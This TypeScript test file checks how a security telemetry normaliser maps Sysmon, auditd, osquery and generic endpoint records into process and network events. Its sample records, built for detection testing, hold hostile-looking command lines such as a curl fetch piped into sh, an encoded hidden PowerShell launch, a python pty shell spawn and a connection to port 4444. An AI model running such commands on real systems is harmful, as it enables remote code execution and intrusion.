// Endpoint telemetry: one realistic record per recognised Sysmon, auditd, osquery and generic
// shape, checked for family, logsources, Sysmon-style fields, host and the normalised rows.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { NormalisedEvent } from './event.js';
import { createNormaliser, loadPipeline } from './index.js';

const normaliser = createNormaliser(loadPipeline());
const EVENT_TIME = Date.parse('2026-11-22T10:15:00Z');

function normalise(record: Record<string, unknown>): NormalisedEvent {
  return normaliser.normalise({
    seq: 42,
    tenantId: 3,
    receivedAt: EVENT_TIME + 500,
    eventTime: EVENT_TIME,
    record: JSON.stringify(record),
    meta: null,
  });
}

// Factories: realistic records, overridable per test.
const WINDOWS_PROCESS = {
  UtcTime: '2026-11-22 10:15:00.123',
  ProcessGuid: '{5770385f-c22a-6546-2b00-000000001a00}',
  ProcessId: '6412',
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  FileVersion: '10.0.19041.3996',
  OriginalFileName: 'PowerShell.EXE',
  CommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgA',
  CurrentDirectory: 'C:\\Users\\alice\\',
  User: 'CORP\\alice',
  IntegrityLevel: 'Medium',
  Hashes: 'SHA256=9F914D42706FE215501044ACD85A32D58AAEF1419D404FDDFA5D3B48F66CCD9F',
  ParentProcessGuid: '{5770385f-c1f0-6546-1f00-000000001a00}',
  ParentProcessId: '5120',
  ParentImage: 'C:\\Windows\\System32\\cmd.exe',
  ParentCommandLine: '"C:\\Windows\\system32\\cmd.exe" /c run.bat',
  ParentUser: 'CORP\\alice',
};

function sysmonFlat(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    EventTime: '2026-11-22 10:15:00',
    Hostname: 'WS-017.corp.example',
    EventID: 1,
    SourceName: 'Microsoft-Windows-Sysmon',
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: 'WS-017.corp.example',
    ProcessID: 2960,
    ...WINDOWS_PROCESS,
    ...overrides,
  };
}

function winlogbeat(eventData: Record<string, unknown>, eventId: string): Record<string, unknown> {
  return {
    '@timestamp': '2026-11-22T10:15:00.123Z',
    agent: { id: '8a3f1c9e-agent', type: 'winlogbeat', version: '8.15.0' },
    host: { name: 'ws-017' },
    event: { code: eventId, provider: 'Microsoft-Windows-Sysmon' },
    winlog: {
      channel: 'Microsoft-Windows-Sysmon/Operational',
      computer_name: 'WS-017.corp.example',
      event_id: eventId,
      provider_name: 'Microsoft-Windows-Sysmon',
      record_id: 88231,
      event_data: eventData,
    },
  };
}

function sysmonXml(eventId: number, channel: string, data: [string, string | undefined][]): Record<string, unknown> {
  return {
    Event: {
      '@xmlns': 'http://schemas.microsoft.com/win/2004/08/events/event',
      System: {
        Provider: { '@Name': channel.startsWith('Linux') ? 'Linux-Sysmon' : 'Microsoft-Windows-Sysmon' },
        EventID: { '#text': String(eventId) },
        Channel: channel,
        Computer: 'build-07',
        TimeCreated: { '@SystemTime': '2026-11-22T10:15:00.1Z' },
      },
      EventData: {
        Data: data.map(([name, text]) => (text === undefined ? { '@Name': name } : { '@Name': name, '#text': text })),
      },
    },
  };
}

const LINUX_PROCESS: [string, string | undefined][] = [
  ['RuleName', '-'],
  ['ProcessGuid', '{f1e2d3c4-0000-0000-0000-000000000001}'],
  ['ProcessId', '31337'],
  ['Image', '/usr/bin/curl'],
  ['FileVersion', '-'],
  ['CommandLine', 'curl -s http://198.51.100.7/x.sh'],
  ['CurrentDirectory', '/tmp'],
  ['User', 'www-data'],
  ['LogonId', '33'],
  ['ParentProcessId', '31300'],
  ['ParentImage', '/bin/bash'],
  ['ParentCommandLine', 'bash -c curl -s http://198.51.100.7/x.sh | sh'],
  ['Description', undefined],
];

test('Sysmon EID 1, flat Windows (NXLog): process_creation for windows, Sysmon names, process row', () => {
  const event = normalise(sysmonFlat());
  assert.equal(event.family, 'process');
  assert.deepEqual(event.logsources, [
    { category: 'process_creation' },
    { category: 'process_creation', product: 'windows' },
    { product: 'windows', service: 'sysmon' },
  ]);
  assert.equal(event.fields.EventID, 1);
  assert.equal(event.fields.Image, WINDOWS_PROCESS.Image);
  assert.equal(event.fields.OriginalFileName, 'PowerShell.EXE');
  assert.equal(event.host, 'WS-017.corp.example');
  assert.equal(event.time, EVENT_TIME);
  assert.equal(event.keywords, WINDOWS_PROCESS.CommandLine);
  assert.deepEqual(event.process, {
    host: 'WS-017.corp.example',
    endpoint_id: null,
    user: 'CORP\\alice',
    process_name: 'powershell.exe',
    pid: 6412,
    parent_process_name: 'cmd.exe',
    parent_pid: 5120,
    executable_path: WINDOWS_PROCESS.Image,
    parent_executable_path: 'C:\\Windows\\System32\\cmd.exe',
    command_line: WINDOWS_PROCESS.CommandLine,
    parent_command_line: WINDOWS_PROCESS.ParentCommandLine,
    time: EVENT_TIME,
    source_format: 'sysmon',
  });
  assert.equal(event.network, undefined);
});

test('Sysmon EID 1 from Winlogbeat: event_data becomes top-level Sysmon names; agent id is the endpoint', () => {
  const event = normalise(winlogbeat(WINDOWS_PROCESS, '1'));
  assert.equal(event.family, 'process');
  assert.equal(event.fields.EventID, 1);
  assert.equal(event.fields.CommandLine, WINDOWS_PROCESS.CommandLine);
  assert.equal(event.fields.ParentImage, WINDOWS_PROCESS.ParentImage);
  assert.equal(event.fields['winlog.event_data.Image'], WINDOWS_PROCESS.Image, 'the flattened original stays');
  assert.equal(event.fields.Computer, 'WS-017.corp.example');
  assert.equal(event.host, 'WS-017.corp.example');
  assert.equal(event.process?.endpoint_id, '8a3f1c9e-agent');
  assert.equal(event.process?.pid, 6412);
});

test('Sysmon EID 1 as XML-JSON with a Data list (Sysmon for Linux): linux product, empty elements are ""', () => {
  const event = normalise(sysmonXml(1, 'Linux-Sysmon/Operational', LINUX_PROCESS));
  assert.equal(event.family, 'process');
  assert.deepEqual(event.logsources, [
    { category: 'process_creation' },
    { category: 'process_creation', product: 'linux' },
    { product: 'linux', service: 'sysmon' },
  ]);
  assert.equal(event.fields.Image, '/usr/bin/curl');
  assert.equal(event.fields.User, 'www-data');
  assert.equal(event.fields.Description, '');
  assert.equal(event.fields.EventID, 1);
  assert.equal(event.host, 'build-07');
  assert.equal(event.process?.process_name, 'curl');
  assert.equal(event.process?.parent_process_name, 'bash');
  assert.equal(event.process?.parent_pid, 31300);
});

test('Sysmon EID 1 XML-JSON, Windows, with {Name, #text} items and EventData as a bare list', () => {
  const record = sysmonXml(1, 'Microsoft-Windows-Sysmon/Operational', []);
  (record.Event as Record<string, unknown>).EventData = Object.entries(WINDOWS_PROCESS).map(([Name, text]) => ({
    Name,
    '#text': text,
  }));
  const event = normalise(record);
  assert.equal(event.family, 'process');
  assert.equal(event.logsources[1]?.product, 'windows');
  assert.equal(event.fields.Hashes, WINDOWS_PROCESS.Hashes);
  assert.equal(event.process?.command_line, WINDOWS_PROCESS.CommandLine);
});

test('Sysmon EID 3, flat Windows: network_connection, ports as numbers, Initiated as Sysmon text, outbound row', () => {
  const event = normalise(
    sysmonFlat({
      EventID: 3,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIsIpv6: 'false',
      SourceIp: '10.1.2.17',
      SourceHostname: 'WS-017.corp.example',
      SourcePort: '50412',
      DestinationIsIpv6: 'false',
      DestinationIp: '198.51.100.7',
      DestinationHostname: '-',
      DestinationPort: '443',
      DestinationPortName: 'https',
    }),
  );
  assert.equal(event.family, 'network');
  assert.deepEqual(event.logsources, [
    { category: 'network_connection' },
    { category: 'network_connection', product: 'windows' },
    { product: 'windows', service: 'sysmon' },
  ]);
  assert.equal(event.fields.DestinationPort, 443);
  assert.equal(event.fields.SourcePort, 50412);
  assert.equal(event.fields.Initiated, 'true');
  assert.equal(event.process, undefined);
  assert.deepEqual(event.network, {
    host: 'WS-017.corp.example',
    endpoint_id: null,
    user: 'CORP\\alice',
    process_name: 'powershell.exe',
    pid: 6412,
    executable_path: WINDOWS_PROCESS.Image,
    source_ip: '10.1.2.17',
    source_port: 50412,
    destination_ip: '198.51.100.7',
    destination_port: 443,
    destination_hostname: '-',
    protocol: 'tcp',
    direction: 'outbound',
    time: EVENT_TIME,
    source_format: 'sysmon',
  });
});

test('Sysmon EID 3, Linux XML-JSON: inbound when Initiated is false', () => {
  const event = normalise(
    sysmonXml(3, 'Linux-Sysmon/Operational', [
      ['ProcessId', '812'],
      ['Image', '/usr/sbin/sshd'],
      ['User', 'root'],
      ['Protocol', 'tcp'],
      ['Initiated', 'false'],
      ['SourceIp', '203.0.113.50'],
      ['SourcePort', '51022'],
      ['DestinationIp', '10.0.0.4'],
      ['DestinationPort', '22'],
    ]),
  );
  assert.equal(event.family, 'network');
  assert.equal(event.logsources[1]?.product, 'linux');
  assert.equal(event.network?.direction, 'inbound');
  assert.equal(event.network?.destination_port, 22);
  assert.equal(event.network?.process_name, 'sshd');
});

test('other Sysmon events: family other, {product, service: sysmon}, fields as given', () => {
  const event = normalise(sysmonFlat({ EventID: 22, QueryName: 'evil.example', QueryResults: '::ffff:198.51.100.7;' }));
  assert.equal(event.family, 'other');
  assert.deepEqual(event.logsources, [{ product: 'windows', service: 'sysmon' }]);
  assert.equal(event.fields.QueryName, 'evil.example');
  assert.equal(event.process, undefined);
});

test('Laurel EXECVE event: Image, CommandLine, parent, cwd; raw auditd fields and the record types stay', () => {
  const event = normalise({
    ID: '1763806500.123:4711',
    NODE: 'db-primary',
    SYSCALL: {
      arch: '0xc000003e',
      syscall: 59,
      success: 'yes',
      exit: 0,
      items: 2,
      ppid: 2100,
      pid: 2171,
      auid: 1000,
      uid: 1000,
      gid: 1000,
      euid: 1000,
      tty: 'pts0',
      ses: 3,
      comm: 'curl',
      exe: '/usr/bin/curl',
      key: null,
      ARCH: 'x86_64',
      SYSCALL: 'execve',
      AUID: 'alice',
      UID: 'alice',
    },
    EXECVE: { argc: 4, ARGV: ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x'] },
    CWD: { cwd: '/home/alice' },
    PATH: [
      { item: 0, name: '/usr/bin/curl', nametype: 'NORMAL' },
      { item: 1, name: '/lib64/ld-linux-x86-64.so.2', nametype: 'NORMAL' },
    ],
    PROCTITLE: { ARGV: ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x'] },
    PARENT_INFO: { ID: '1763806400.001:4600', comm: 'bash', exe: '/usr/bin/bash', ppid: 2000 },
  });
  assert.equal(event.family, 'process');
  assert.deepEqual(event.logsources, [
    { category: 'process_creation' },
    { category: 'process_creation', product: 'linux' },
    { product: 'linux', service: 'auditd' },
  ]);
  assert.equal(event.fields.Image, '/usr/bin/curl');
  assert.equal(event.fields.CommandLine, 'curl -o /tmp/x http://198.51.100.7/x');
  assert.equal(event.fields.User, 'alice');
  assert.equal(event.fields.CurrentDirectory, '/home/alice');
  assert.equal(event.fields.ParentImage, '/usr/bin/bash');
  assert.equal(event.fields.a1, '-o');
  assert.equal(event.fields.exe, '/usr/bin/curl');
  assert.equal(event.fields.auid, 1000);
  assert.deepEqual(event.fields.type, ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE']);
  assert.deepEqual(event.fields['PATH.name'], ['/usr/bin/curl', '/lib64/ld-linux-x86-64.so.2']);
  assert.equal(event.host, 'db-primary');
  assert.equal(event.keywords, 'curl -o /tmp/x http://198.51.100.7/x');
  assert.deepEqual(event.process, {
    host: 'db-primary',
    endpoint_id: null,
    user: 'alice',
    process_name: 'curl',
    pid: 2171,
    parent_process_name: 'bash',
    parent_pid: 2100,
    executable_path: '/usr/bin/curl',
    parent_executable_path: '/usr/bin/bash',
    command_line: 'curl -o /tmp/x http://198.51.100.7/x',
    parent_command_line: null,
    time: EVENT_TIME,
    source_format: 'auditd',
  });
});

function flatAudit(type: string, fields: Record<string, unknown>): Record<string, unknown> {
  return { type, msg: 'audit(1763806500.123:4711):', node: 'db-primary', ...fields };
}

test('flat EXECVE with hex-encoded arguments: decoded into aN and CommandLine; no exe or pid on this record', () => {
  // a2 holds a space, so auditd wrote it as hex; "2D6F" ("-o" would not need encoding) stays text.
  const event = normalise(
    flatAudit('EXECVE', { argc: 4, a0: 'sh', a1: '-c', a2: '6375726C202D73206874747073', a3: '2D6F' }),
  );
  assert.equal(event.family, 'process');
  assert.equal(event.logsources[2]?.service, 'auditd');
  assert.equal(event.fields.a2, 'curl -s https');
  assert.equal(event.fields.a3, '2D6F');
  assert.equal(event.fields.type, 'EXECVE');
  assert.equal(event.fields.CommandLine, 'sh -c curl -s https 2D6F');
  assert.equal(event.fields.Image, undefined);
  assert.equal(event.host, 'db-primary');
  assert.equal(event.process?.process_name, 'sh');
  assert.equal(event.process?.pid, null);
});

test('flat SYSCALL execve (by number on x86_64, or by name): Image, pid, ppid, user; no arguments', () => {
  const record = flatAudit('SYSCALL', {
    arch: 'c000003e',
    syscall: '59',
    success: 'yes',
    exit: '0',
    ppid: '2100',
    pid: '2171',
    auid: '1000',
    uid: '0',
    comm: '"id"',
    exe: '"/usr/bin/id"',
    key: '"exec"',
  });
  const event = normalise(record);
  assert.equal(event.family, 'process');
  assert.equal(event.fields.Image, '/usr/bin/id', 'quotes kept by the converter are removed');
  assert.equal(event.fields.User, '0');
  assert.equal(event.fields.CommandLine, undefined);
  assert.equal(event.process?.pid, 2171);
  assert.equal(event.process?.parent_pid, 2100);
  assert.equal(normalise({ ...record, syscall: 'execve', arch: undefined }).family, 'process');
  assert.equal(normalise({ ...record, syscall: '2' }).family, 'other', 'open(2) is not an exec');
  assert.equal(normalise({ ...record, arch: 'c00000b7', syscall: '221' }).family, 'process', 'execve on aarch64');
});

test('other audit record types: family other with the auditd logsource', () => {
  const event = normalise(
    flatAudit('USER_LOGIN', {
      pid: 812,
      uid: 0,
      auid: 1000,
      ses: 4,
      acct: 'alice',
      addr: '203.0.113.50',
      res: 'failed',
    }),
  );
  assert.equal(event.family, 'other');
  assert.deepEqual(event.logsources, [{ product: 'linux', service: 'auditd' }]);
  assert.equal(event.fields.acct, 'alice');
  const title = normalise(flatAudit('PROCTITLE', { proctitle: '7368002D630069640A' }));
  assert.equal(title.fields.proctitle, 'sh -c id\n');
});

function osquery(name: string, columns: Record<string, unknown>): Record<string, unknown> {
  return {
    name,
    hostIdentifier: 'web-02.prod.example.internal',
    calendarTime: 'Sat Nov 22 10:15:00 2026 UTC',
    unixTime: 1795342500,
    epoch: 0,
    counter: 12,
    numerics: false,
    decorations: { host_uuid: '4C4C4544-0042-3510-8052-B4C04F4E5A32', hostname: 'web-02' },
    columns,
    action: 'added',
  };
}

test('osquery process_events (pack query name): process fields from columns, endpoint id from host_uuid', () => {
  const event = normalise(
    osquery('pack_incident-response_process_events', {
      pid: '4242',
      path: '/usr/bin/python3',
      cmdline: 'python3 -c import pty;pty.spawn("/bin/sh")',
      cwd: '/var/www',
      uid: '33',
      euid: '33',
      gid: '33',
      parent: '4200',
      auid: '4294967295',
      time: '1795342500',
      syscall: 'execve',
    }),
  );
  assert.equal(event.family, 'process');
  assert.deepEqual(event.logsources, [
    { category: 'process_creation' },
    { category: 'process_creation', product: 'linux' },
  ]);
  assert.equal(event.fields.Image, '/usr/bin/python3');
  assert.equal(event.fields.ParentProcessId, '4200');
  assert.equal(event.fields.User, '33');
  assert.equal(event.fields['columns.cwd'], '/var/www');
  assert.equal(event.host, 'web-02');
  assert.equal(event.process?.endpoint_id, '4C4C4544-0042-3510-8052-B4C04F4E5A32');
  assert.equal(event.process?.process_name, 'python3');
  assert.equal(event.process?.pid, 4242);
  assert.equal(event.process?.parent_pid, 4200);
});

test('osquery socket_events: connect is outbound, protocol from its number, local/remote → Source/Destination', () => {
  const event = normalise(
    osquery('pack_network_socket_events', {
      action: 'connect',
      pid: '4242',
      path: '/usr/bin/python3',
      fd: '3',
      auid: '33',
      success: '1',
      family: '2',
      protocol: '6',
      local_address: '10.0.0.12',
      local_port: '40112',
      remote_address: '198.51.100.7',
      remote_port: '4444',
      time: '1795342501',
    }),
  );
  assert.equal(event.family, 'network');
  assert.deepEqual(event.logsources, [
    { category: 'network_connection' },
    { category: 'network_connection', product: 'linux' },
  ]);
  assert.equal(event.fields.Initiated, 'true');
  assert.equal(event.fields.Protocol, 'tcp');
  assert.equal(event.fields.DestinationPort, 4444);
  assert.equal(event.network?.direction, 'outbound');
  assert.equal(event.network?.source_ip, '10.0.0.12');
  assert.equal(event.network?.user, '33');
  const accepted = normalise(
    osquery('socket_events', {
      action: 'accept',
      pid: '1',
      path: '/usr/sbin/sshd',
      remote_address: '203.0.113.9',
      remote_port: '5000',
      local_port: '22',
      protocol: '0',
    }),
  );
  assert.equal(accepted.network?.direction, 'inbound');
  assert.equal(accepted.network?.protocol, null, 'protocol 0 means unknown');
});

test('osquery snapshot results are other', () => {
  const event = normalise({
    name: 'pack_inventory_users',
    hostIdentifier: 'web-02',
    unixTime: 1795342500,
    action: 'snapshot',
    snapshot: [
      { username: 'root', uid: '0' },
      { username: 'alice', uid: '1000' },
    ],
  });
  assert.equal(event.family, 'other');
  assert.deepEqual(event.fields['snapshot.username'], ['root', 'alice']);
  assert.equal(event.host, 'web-02');
});

function genericRecord(type: 'process' | 'network', overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    type,
    timestamp: '2026-11-22T10:15:00Z',
    host: 'web-01',
    endpoint_id: 'agent-7f3a',
    os: 'linux',
    user: 'alice',
    process: {
      name: 'curl',
      pid: 123,
      executable: '/usr/bin/curl',
      command_line: 'curl -o /tmp/x http://198.51.100.7/x',
    },
    ...(type === 'process'
      ? { parent: { name: 'bash', pid: 100, executable: '/bin/bash', command_line: 'bash' } }
      : {
          source: { ip: '10.0.0.5', port: 51234 },
          destination: { ip: '198.51.100.7', port: 443, hostname: 'example.org' },
          protocol: 'TCP',
          direction: 'outbound',
        }),
    ...overrides,
  };
}

test('generic process shape → Sysmon-style fields and a process row', () => {
  const event = normalise(genericRecord('process'));
  assert.equal(event.family, 'process');
  assert.deepEqual(event.logsources, [
    { category: 'process_creation' },
    { category: 'process_creation', product: 'linux' },
  ]);
  assert.equal(event.fields.Image, '/usr/bin/curl');
  assert.equal(event.fields.ParentCommandLine, 'bash');
  assert.equal(event.fields.User, 'alice');
  assert.deepEqual(event.process, {
    host: 'web-01',
    endpoint_id: 'agent-7f3a',
    user: 'alice',
    process_name: 'curl',
    pid: 123,
    parent_process_name: 'bash',
    parent_pid: 100,
    executable_path: '/usr/bin/curl',
    parent_executable_path: '/bin/bash',
    command_line: 'curl -o /tmp/x http://198.51.100.7/x',
    parent_command_line: 'bash',
    time: EVENT_TIME,
    source_format: 'generic',
  });
  const noOs = normalise(genericRecord('process', { os: undefined }));
  assert.deepEqual(noOs.logsources, [{ category: 'process_creation' }], 'without os only the category applies');
});

test('generic network shape → network fields and a network row', () => {
  const event = normalise(genericRecord('network', { os: 'windows' }));
  assert.equal(event.family, 'network');
  assert.deepEqual(event.logsources, [
    { category: 'network_connection' },
    { category: 'network_connection', product: 'windows' },
  ]);
  assert.equal(event.fields.DestinationHostname, 'example.org');
  assert.equal(event.fields.Protocol, 'tcp');
  assert.equal(event.fields.Initiated, 'true');
  assert.deepEqual(event.network, {
    host: 'web-01',
    endpoint_id: 'agent-7f3a',
    user: 'alice',
    process_name: 'curl',
    pid: 123,
    executable_path: '/usr/bin/curl',
    source_ip: '10.0.0.5',
    source_port: 51234,
    destination_ip: '198.51.100.7',
    destination_port: 443,
    destination_hostname: 'example.org',
    protocol: 'tcp',
    direction: 'outbound',
    time: EVENT_TIME,
    source_format: 'generic',
  });
});
